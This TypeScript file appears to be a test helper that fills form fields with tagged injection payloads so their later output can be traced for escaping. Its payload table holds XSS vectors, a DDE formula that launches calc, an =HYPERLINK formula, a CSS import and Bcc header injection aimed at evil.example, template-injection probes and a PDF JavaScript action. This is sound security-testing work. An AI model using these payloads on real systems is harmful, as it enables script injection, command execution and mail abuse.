import { randomInt } from 'node:crypto';

/** What somebody wrote into a field, and the mark by which it is found again wherever it went. */
export interface Said {
  mark: string;
  call: string;
  field: string;
  text: string;
}

/** How free a field is: several lines, one line of anything, a person's name without brackets and links, an address on the web. */
export type Freedom = 'text' | 'line' | 'name' | 'address';

type Phrase = (mark: string) => string;

/** Each would do harm somewhere: in a page, a sheet, a PDF, a mail's head, a template, a script of data. */
const phrases: Record<Freedom, Phrase[]> = {
  name: [
    (mark) => `=1+1 ${mark}`,
    (mark) => `@SUM ${mark} "x" onfocus='hit()'`.replace('@', '+'),
    (mark) => `-2+3 ${mark} {{7*7}}`,
    (mark) => `${mark} \${7*7} %0d%0aBcc: x`,
  ],
  address: [
    (mark) => `https://evil.example/${mark}?"><img/src=x/data-hit/onerror=hit()>`,
    (mark) => `https://evil.example/'onclick='hit()'#${mark}`,
  ],
  line: [
    (mark) => `"><img src=x data-hit=${mark} onerror="hit('${mark}')">`,
    (mark) => `=cmd|' /C calc'!A0 ${mark} <b data-hit>`,
    (mark) => `</script><script data-hit>hit('${mark}')</script>`,
    (mark) => `@SUM(1+1)*${mark}'"><svg data-hit onload=hit()>`,
    (mark) => `+1 ${mark} {{constructor.constructor('hit()')()}}`,
    (mark) => `-2+3 ${mark} [x](javascript:hit()) 🚗`,
    (mark) => `javascript:hit('${mark}')//%0d%0aBcc: ${mark}@evil.example`,
    (mark) => `${mark}) >> /OpenAction << /S /JavaScript /JS (hit()) >> (`,
  ],
  text: [
    (mark) =>
      `=HYPERLINK("https://evil.example/${mark}";"x")\r\nBcc: ${mark}@evil.example\r\n\r\n<script data-hit>hit()</script>`,
    (mark) =>
      `# ${mark}\n[x](javascript:hit()) ![x](data:text/html,<b>) <img src=x data-hit onerror=hit()>\n<style data-hit>*{display:none}</style>`,
    (mark) => `</title></textarea></style></script>--><svg/data-hit onload=hit()>]]>{"@type":"x"} ${mark}`,
    (mark) => `\t=1+1 ${mark}\n\u202Egnp.\u2066${mark}\u200B\u0000 \uFEFF\u{1F468}\u200D\u{1F469}`,
    (mark) => `@import url(//evil.example/${mark}); {{7*7}} <%= 7*7 %> <a href=//evil.example data-hit>${mark}</a>`,
  ],
};

/** Longest text that is looked for to be kept whole; a longer one only shows that length harms nothing. */
const longest = 4_000;

/** Somebody who writes into fields, and remembers what. */
export class Speech {
  readonly said: Said[] = [];
  private readonly run = Array.from({ length: 4 }, () => 'bcdfghjkmnprstvwxz'[randomInt(18)]).join('');
  private count = 0;

  private readonly turn: number;

  /** `turn` moves every field on to the next phrase. */
  constructor(turn = 0) {
    this.turn = turn;
  }

  /** Finds every mark of this speech. */
  get pattern(): RegExp {
    return new RegExp(`zq${this.run}[0-9a-z]{3}`, 'g');
  }

  newMark(): string {
    this.count += 1;
    return `zq${this.run}${this.count.toString(36).padStart(3, '0')}`;
  }

  /** A text of at most so many characters for a field; it counts as said once `remember` is told of it. */
  phrase(freedom: Freedom, maxLength: number, mark: string): string {
    if (freedom === 'address') return phrases.address[(this.turn + this.count) % 2]?.(mark) ?? '';
    const choice = phrases[freedom];
    const most = Math.min(maxLength, longest);
    const start = this.turn + this.count;
    let text = '';
    for (let next = 0; next < choice.length; next++) {
      const phrase = choice[(start + next) % choice.length]?.(mark) ?? mark;
      const joined = text === '' ? phrase : `${text}${freedom === 'text' ? '\n' : ' '}${phrase}`;
      if (joined.length <= most) text = joined;
    }
    return text === '' ? mark.slice(0, most) : text;
  }

  /** Words for a place that is no field of a call: said, and given as they are to be written. */
  say(call: string, field: string, freedom: Freedom, maxLength = longest): string {
    const mark = this.newMark();
    const text = this.phrase(freedom, maxLength, mark);
    this.remember({ mark, call, field, text });
    return text;
  }

  remember(...said: Said[]): void {
    this.said.push(...said);
  }
}
